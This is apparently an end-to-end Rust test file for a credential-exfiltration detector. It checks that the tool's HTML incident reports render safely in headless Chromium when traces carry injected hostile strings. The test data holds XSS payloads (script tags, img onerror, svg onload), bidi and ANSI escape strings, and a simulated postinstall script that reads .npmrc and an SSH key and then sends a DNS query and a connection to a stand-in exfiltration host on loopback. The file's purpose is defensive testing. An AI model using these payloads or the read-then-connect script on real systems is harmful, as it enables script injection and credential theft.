//! Issue 26 point 2: the incident page, checked in a real browser. Pages are made by the real
//! binary from (a) `replay --report --report-format html` of a recorded trace with hostile
//! strings injected, (b) `fleet report --format html` of alert files, (c) `show SEQ --html`
//! against a `watch` with `--alert-log`; each is loaded in Debian's headless Chromium, whose
//! DOM must have the page's parts and no element, attribute or fetch that came from the input.

use std::{
    collections::BTreeMap,
    fs,
    io::Read as _,
    net::TcpListener,
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::{
        atomic::{AtomicU64, Ordering},
        Arc, Once,
    },
    thread,
    time::{Duration, Instant},
};

use credwatch_e2e::{credwatch_binary, fixtures, Sandbox};
use serde_json::Value;

// One reader of the page for core's tests and these.
#[path = "../../core/src/incident/tests/markup.rs"]
mod markup;
use markup::{tokens, ATTRIBUTES, TAGS};

/// The CI trace: telemetry-helper@4.1.2's postinstall reads `.npmrc` and an SSH key in a
/// GitHub Actions job.
const TRACE: &str = "traces/schema-5-npm-ci.jsonl";
/// How long Chromium may take to load and dump one page.
const CHROMIUM_TIMEOUT: Duration = Duration::from_secs(90);

/// A loopback HTTP listener that counts connections: a page that fetched anything from a URL
/// in the input would connect here.
struct FetchTrap {
    port: u16,
    connections: Arc<AtomicU64>,
}

impl FetchTrap {
    fn start() -> FetchTrap {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let connections = Arc::new(AtomicU64::new(0));
        let counted = connections.clone();
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counted.fetch_add(1, Ordering::SeqCst);
                drop(stream);
            }
        });
        FetchTrap { port, connections }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.1:{}/{path}", self.port)
    }
}

/// What hostile package code writes where a name, a path or a command goes.
fn hostile(trap: &FetchTrap) -> Vec<String> {
    vec![
        "<script>alert(1)</script>".into(),
        format!("\"><img src={} onerror=alert(1)>", trap.url("img")),
        format!("'><link rel=stylesheet href={}><style>body{{display:none}}</style>", trap.url("css")),
        format!("<script src={}></script>", trap.url("js")),
        "it's \"quoted\"".into(),
        "evil\u{202e}gpj.exe".into(),
        "\u{1b}[31mred\u{1b}[0m\u{1b}]0;owned\u{7}".into(),
        "nul\0byte".into(),
        String::from_utf8_lossy(b"lossy\xff\xfe<svg onload=alert(1)>").into_owned(),
    ]
}

fn counts(tags: &[(String, Vec<(String, String)>)]) -> BTreeMap<String, usize> {
    let mut counts = BTreeMap::new();
    for (name, _) in tags {
        *counts.entry(name.clone()).or_default() += 1;
    }
    counts
}

/// Chromium with a throwaway profile and home (as root it needs `--no-sandbox`); no name
/// resolves, so nothing could be fetched by name either.
fn chromium(scratch: &Path) -> Command {
    let home = scratch.join("chromium-home");
    fs::create_dir_all(&home).unwrap();
    let mut command = Command::new("chromium");
    command
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .env("XDG_CACHE_HOME", home.join(".cache"))
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions"])
        .arg("--host-resolver-rules=MAP * ~NOTFOUND")
        .arg(format!("--user-data-dir={}", scratch.join("chromium-profile").display()));
    command
}

/// Chromium's version, printed once for the log.
fn print_chromium_version() {
    static ONCE: Once = Once::new();
    ONCE.call_once(|| {
        let output = Command::new("chromium").arg("--version").output().expect("running chromium --version");
        println!("browser: {}", String::from_utf8_lossy(&output.stdout).trim());
    });
}

/// Runs `command` to its end within [`CHROMIUM_TIMEOUT`]; its standard output.
fn run_chromium(mut command: Command) -> String {
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().expect("starting chromium");
    let mut stdout = child.stdout.take().unwrap();
    let reader = thread::spawn(move || {
        let mut text = String::new();
        stdout.read_to_string(&mut text).unwrap();
        text
    });
    let started = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            assert!(status.success(), "chromium: {status}");
            break;
        }
        if started.elapsed() > CHROMIUM_TIMEOUT {
            child.kill().unwrap();
            child.wait().unwrap();
            panic!("chromium took more than {CHROMIUM_TIMEOUT:?}");
        }
        thread::sleep(Duration::from_millis(100));
    }
    reader.join().unwrap()
}

/// Loads `page` in headless Chromium and checks what its DOM holds: the page's parts, the CSP,
/// the elements and attributes the renderer wrote and no other, no script, no fetch, and the
/// hostile strings shown as text. Returns the DOM.
fn check_in_browser(page: &Path, trap: &FetchTrap, scratch: &Path, shown: &[(&str, &str)]) -> String {
    print_chromium_version();
    let html = fs::read_to_string(page).unwrap();
    let mut command = chromium(scratch);
    command.arg("--dump-dom").arg(format!("file://{}", page.display()));
    let dom = run_chromium(command);
    assert!(dom.contains("</html>"), "a whole DOM: {dom}");

    for part in [
        "id=\"verdict\"",
        "id=\"rotate\"",
        "type=\"checkbox\"",
        "id=\"timeline\"",
        "class=\"timeline\"",
        "class=\"process-tree\"",
        "<svg",
        "<circle",
        "id=\"files\"",
        "id=\"connections\"",
        "id=\"where\"",
    ] {
        assert!(dom.contains(part), "{part} in the DOM of {}", page.display());
    }
    assert!(
        dom.contains("<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-"),
        "the CSP meta"
    );

    let written = tokens(&html);
    let parsed = tokens(&dom);
    assert_eq!(written.errors.first(), None, "parse errors in the page ({} in all)", written.errors.len());
    assert_eq!(parsed.errors.first(), None, "parse errors in the DOM ({} in all)", parsed.errors.len());
    // Chromium made of the page exactly the elements the renderer wrote, one for one.
    assert_eq!(counts(&parsed.start_tags), counts(&written.start_tags), "elements in the DOM against the page");
    for (name, attributes) in &parsed.start_tags {
        assert!(TAGS.contains(&name.as_str()), "element <{name}> came from the input");
        for (attribute, value) in attributes {
            assert!(!attribute.starts_with("on"), "{attribute}= on <{name}>");
            assert!(ATTRIBUTES.contains(&attribute.as_str()), "attribute {attribute} on <{name}> came from the input");
            for marker in ["alert", "127.0.0.1", "quoted", "evil", "lossy", "owned", "nul"] {
                assert!(!value.contains(marker), "{attribute}={value:?} on <{name}> holds input");
            }
        }
    }
    for forbidden in ["<script", "<img", "<link", "<iframe", "<object", "<embed", "<base"] {
        assert!(!dom.to_ascii_lowercase().contains(forbidden), "{forbidden} in the DOM");
    }
    // Shown as text, and the page names no URL to fetch.
    for (text, what) in shown {
        assert!(dom.contains(text), "{what} shown as text: {text}");
        assert!(parsed.text.contains(&tokens(text).text), "{what} read as text: {text}");
    }
    let style = &html[html.find("<style>").unwrap()..html.find("</style>").unwrap()];
    for fetch in ["url(", "@import", "image-set("] {
        assert!(!style.contains(fetch), "{fetch} in the style");
    }
    assert_eq!(trap.connections.load(Ordering::SeqCst), 0, "the page fetched from a URL of the input");
    dom
}

/// The hostile strings as the DOM shows them (text escaped by Chromium's serialisation).
const SHOWN: &[(&str, &str)] = &[
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "the script tag"),
    ("evil\\u{202e}gpj.exe", "the bidi override, as an escape"),
    ("\\u{1b}[31mred", "ANSI, as an escape"),
    ("nul\\u{0}byte", "NUL, as an escape"),
    ("lossy\u{fffd}\u{fffd}&lt;svg onload=alert(1)&gt;", "invalid UTF-8 made lossy"),
];

/// The CI trace with `hostile` strings in the host, the CI job, the package's name and
/// version, its command, a file it writes (4 KiB long), a name it looks up and a blind spot;
/// then a connect to a loopback address after the credential reads.
fn hostile_trace(dir: &Path, hostile: &[String]) -> PathBuf {
    let pick = |n: usize| hostile[n % hostile.len()].clone();
    let text = fs::read_to_string(fixtures().join(TRACE)).unwrap();
    let mut lines = Vec::new();
    for (index, line) in text.lines().enumerate() {
        let mut value: Value = serde_json::from_str(line).unwrap();
        if index == 0 {
            value["host"] = pick(1).into();
            lines.push(value.to_string());
            continue;
        }
        if let Some(env) = value["env"].as_object_mut() {
            for (n, key) in ["GITHUB_REPOSITORY", "GITHUB_WORKFLOW", "GITHUB_JOB", "RUNNER_NAME", "GITHUB_RUN_ID"]
                .into_iter()
                .enumerate()
            {
                if env.contains_key("GITHUB_ACTIONS") {
                    env.insert(key.into(), pick(n + 2).into());
                }
            }
            if env.contains_key("npm_package_name") {
                env.insert("npm_package_name".into(), pick(0).into());
                env.insert("npm_package_version".into(), pick(5).into());
                env.insert("npm_lifecycle_event".into(), pick(6).into());
            }
        }
        if value["args"] == serde_json::json!(["node", "telemetry.js"]) {
            value["args"] = serde_json::json!(["node", pick(3), pick(7), pick(8)]);
            value["executable"] = format!("/usr/bin/node{}", pick(4)).into();
        }
        let is_second_read = value["path"].as_str().is_some_and(|p| p.ends_with("/.ssh/id_ed25519"));
        let (time, pid) = (value["time_ns"].as_u64().unwrap(), value["pid"].as_u64().unwrap() as u32);
        lines.push(value.to_string());
        if is_second_read {
            let long_path = format!("/tmp/{}/{}", pick(1), "x".repeat(4096));
            let added = [
                serde_json::json!({"time_ns": time + 1, "pid": pid, "kind": "open", "tid": pid, "syscall": "openat",
                    "dirfd": -100, "flags": 577, "mode": 420, "path": long_path, "abs_path": long_path, "ret": 5}),
                serde_json::json!({"time_ns": time + 2, "pid": pid, "kind": "dns_query", "tid": pid,
                    "name": pick(2), "qtype": "A"}),
                serde_json::json!({"time_ns": time + 3, "pid": pid, "kind": "connect", "tid": pid,
                    "family": "inet", "address": "127.0.0.9", "port": 8080, "ret": 0}),
                serde_json::json!({"time_ns": time + 4, "pid": 0, "kind": "lost", "source": pick(7), "count": 3}),
            ];
            lines.extend(added.iter().map(Value::to_string));
        }
    }
    let path = dir.join("hostile.trace.jsonl");
    fs::write(&path, lines.join("\n") + "\n").unwrap();
    path
}

fn credwatch(args: &[&str]) -> Command {
    let mut command = Command::new(credwatch_binary());
    command.args(args);
    command
}

/// Runs `command`, its stdout to `page`; returns its exit status.
fn page_from(mut command: Command, page: &Path) -> i32 {
    let output = command.output().unwrap();
    fs::write(page, &output.stdout).unwrap();
    assert!(
        output.stdout.starts_with(b"<!DOCTYPE html>"),
        "a page from {command:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    output.status.code().unwrap_or(-1)
}

#[test]
fn replay_report_html_of_a_hostile_trace_is_safe_in_chromium() {
    let dir = tempfile::tempdir().unwrap();
    let trap = FetchTrap::start();
    let hostile = hostile(&trap);
    let trace = hostile_trace(dir.path(), &hostile);
    let page = dir.path().join("replay.html");
    let alerts = dir.path().join("alerts.jsonl");
    let mut command = credwatch(&["replay", "--report", "--report-format", "html", "--alerts"]);
    command.arg(&alerts).arg(&trace);
    // 10: the replay raised alerts.
    assert_eq!(page_from(command, &page), 10);
    let alerts: Vec<Value> =
        fs::read_to_string(&alerts).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let rules: Vec<&str> = alerts.iter().filter_map(|a| a["rule"]["id"].as_str()).collect();
    assert!(rules.contains(&"exfiltration"), "the connect after the reads alerted: {rules:?}");

    let dom = check_in_browser(&page, &trap, dir.path(), SHOWN);
    // The timeline has the events the report observed, the tree its processes.
    for kind in [">exec<", ">read<", ">write<", ">lookup<", ">connect<", ">blind spot<"] {
        assert!(dom.contains(kind), "{kind} on the timeline");
    }
    assert!(dom.contains("more characters)"), "the 4 KiB path cut with a count");
    assert!(dom.contains("ssh-private-keys"), "the SSH key under its rule");
    assert!(dom.contains("GitHub") || dom.contains("provider=github"), "the CI job where it ran");
    assert!(dom.matches("<circle").count() >= 3, "npm, sh and node drawn");
}

#[test]
fn fleet_report_html_of_alert_files_is_safe_in_chromium() {
    let dir = tempfile::tempdir().unwrap();
    let trap = FetchTrap::start();
    let hostile = hostile(&trap);
    let trace = hostile_trace(dir.path(), &hostile);
    let alerts = dir.path().join("alerts.jsonl");
    let status = credwatch(&["replay", "--alerts"]).arg(&alerts).arg(&trace).stdout(Stdio::null()).status().unwrap();
    assert_eq!(status.code(), Some(10));
    // A second host's copy, in a container of a pod, with hostile ids and names there too.
    let mut lines: Vec<String> = fs::read_to_string(&alerts).unwrap().lines().map(str::to_owned).collect();
    let second: Vec<String> = lines
        .iter()
        .enumerate()
        .map(|(n, line)| {
            let mut alert: Value = serde_json::from_str(line).unwrap();
            alert["host"]["name"] = "build-7".into();
            alert["event"]["id"] = format!("{n:032x}").into();
            alert["container"] = serde_json::json!({"id": hostile[n % hostile.len()], "runtime": hostile[1]});
            alert["orchestrator"] = serde_json::json!({"type": "kubernetes", "namespace": hostile[0],
                "resource": {"type": "pod", "id": hostile[2], "name": hostile[3]}});
            alert["credwatch"]["rotate"] = serde_json::json!([hostile[(n + 4) % hostile.len()]]);
            alert.to_string()
        })
        .collect();
    lines.extend(second);
    let files = dir.path().join("fleet.jsonl");
    fs::write(&files, lines.join("\n") + "\n").unwrap();

    let page = dir.path().join("fleet.html");
    let mut command = credwatch(&["fleet", "report", "--format", "html"]);
    command.arg(&files);
    assert_eq!(page_from(command, &page), 0);
    let dom = check_in_browser(&page, &trap, dir.path(), SHOWN);
    assert!(dom.contains("build-7"), "the second host");
    assert!(dom.contains("<dt>container</dt>") && dom.contains("<dt>pod</dt>"), "where it ran: container and pod");
    assert!(dom.contains("<dt>CI job</dt>"), "where it ran: the CI job");
}

/// Python: a DNS query for `collector.exfil.invalid` sent to 127.0.0.1:53, then a connect to
/// 127.0.0.1 at the port given.
const EXFIL: &str = r#"
import socket, struct, sys
name = b"".join(bytes([len(label)]) + label for label in b"collector.exfil.invalid".split(b"."))
query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack(">HH", 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", 53))
socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5).close()
"#;

#[test]
fn show_html_of_an_attack_watched_live_is_safe_in_chromium() {
    let sandbox = Sandbox::new();
    let trap = FetchTrap::start();
    // Argv and environment hold no NUL: every other hostile string goes in.
    let hostile: Vec<String> = hostile(&trap).into_iter().filter(|s| !s.contains('\0')).collect();
    let collector = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = collector.local_addr().unwrap().port();
    let watch = sandbox.watch();
    // The package's name is hostile; its script's argv (the tree's `sh -c`) holds the rest. It
    // reads two credentials, looks up a name (a query to loopback's port 53, where nothing
    // answers) and connects to the collector: the name decides, so that connect is elsewhere.
    let script = format!(
        "cat \"$HOME/.npmrc\" >/dev/null; cat \"$HOME/.ssh/id_ed25519\" >/dev/null; python3 -c '{EXFIL}' {port}"
    );
    let mut command = sandbox.command(sandbox.fake_manager());
    command.arg(&hostile[0]).arg(&script).args(&hostile[1..]);
    sandbox.setup("the hostile package's postinstall", &mut command);
    let alert = sandbox
        .wait_for(
            |a| a["package"]["name"] == hostile[0].as_str() && a["destination"].is_object(),
            Duration::from_secs(30),
        )
        .unwrap_or_else(|| {
            panic!("no connect alert of the package: {}", fs::read_to_string(sandbox.alerts_file()).unwrap_or_default())
        });
    let id = &alert["event"]["id"].as_str().unwrap()[..12];
    let page = sandbox.work().join("show.html");
    let mut show = sandbox.credwatch("show");
    show.args([id, "--html", "--output"]).arg(&page);
    show.arg("--alert-log").arg(sandbox.alert_log()).arg("--alerts-socket").arg(sandbox.top().join("no-agent.sock"));
    sandbox.setup("credwatch show --html", &mut show);
    watch.stop();
    let shown: Vec<(&str, &str)> = SHOWN.iter().filter(|(_, what)| !what.starts_with("NUL")).copied().collect();
    let dom = check_in_browser(&page, &trap, &sandbox.work(), &shown);
    assert!(dom.contains(">read<") && dom.contains(">connect<"), "the tree's reads and connect on the timeline");
    assert!(dom.contains("ssh-private-keys"), "the SSH key among the files");
    assert!(dom.contains(&format!("127.0.0.1:{port}")), "the connection");
    assert!(dom.matches("<circle").count() >= 3, "the fake npm, sh and the readers drawn");
}
